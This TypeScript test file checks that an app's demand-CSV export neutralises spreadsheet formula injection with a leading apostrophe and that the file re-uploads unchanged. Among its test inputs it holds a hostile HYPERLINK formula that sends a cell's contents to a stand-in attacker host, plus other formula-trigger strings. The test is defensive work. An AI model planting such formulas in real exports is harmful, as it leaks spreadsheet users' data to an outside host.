// Formula injection in CSV files the server writes: a cell a spreadsheet program would run as a
// formula (=, +, -, @ first) is written with a leading apostrophe, and the same file uploads again
// unchanged. Source: OWASP "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection);
// papaparse's own parser reads the file back.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { signedIn, type Client } from '../helpers/http';
import { closeTestDb } from '../helpers/db';
import { demo } from '../helpers/env';
import { demandSeason, type DemandFixture } from './demand-fixture';

const hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
const others = ['+SUM(1,2)', '-2+3', '@cmd'];

let fx: DemandFixture;
let share: Client;
beforeAll(async () => {
	fx = await demandSeason(2033);
	share = await signedIn(demo.share, demo.password);
});
afterAll(async () => {
	await fx.cleanup();
	await closeTestDb();
});

const base = () => `/api/seasons/${fx.seasonId}/demand`;

function upload(text: string, mode: 'merge' | 'replace'): Promise<Response> {
	const form = new FormData();
	form.set('file', new Blob([text], { type: 'text/csv' }), 'demand.csv');
	form.set('mode', mode);
	return share.request(`${base()}/upload`, {
		method: 'POST',
		body: form,
		headers: { origin: process.env.FC_BASE_URL!, accept: 'application/json' }
	});
}

describe('the demand CSV download', () => {
	it('escapes every cell that would start a formula, and uploads again unchanged', async () => {
		for (const name of [hostile, ...others]) {
			const res = await share.json(`${base()}/share-sizes`, 'POST', {
				name,
				members: 10,
				firstWeek: '2033-W24',
				lastWeek: '2033-W30',
				price: 100
			});
			expect(res.status).toBe(201);
		}
		const rows = [hostile, ...others].map((n, i) => Papa.unparse([[n, 'Carrot', `2033-W2${4 + i}`, '1.5', 'lb']]));
		const up = await upload(['channel,crop,week,quantity,unit', ...rows].join('\r\n'), 'merge');
		expect(up.status).toBe(200);

		const res = await share.request(`${base()}/file?format=csv`);
		expect(res.status).toBe(200);
		const text = await res.text();
		const parsed = Papa.parse<string[]>(text.trim()).data;
		const channels = parsed.slice(1).map((r) => r[0]);
		expect(channels).toHaveLength(4);
		// No cell a spreadsheet would evaluate: each hostile name comes out behind an apostrophe.
		for (const cell of parsed.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
		expect(channels).toContain(`'${hostile}`);
		for (const n of others) expect(channels).toContain(`'${n}`);

		const before = await (await share.request(base())).json();
		const again = await upload(text, 'replace');
		expect(again.status).toBe(200);
		expect((await again.json()).set).toBe(4);
		const after = await (await share.request(base())).json();
		expect(after.boxItems).toEqual(before.boxItems);
	});
});
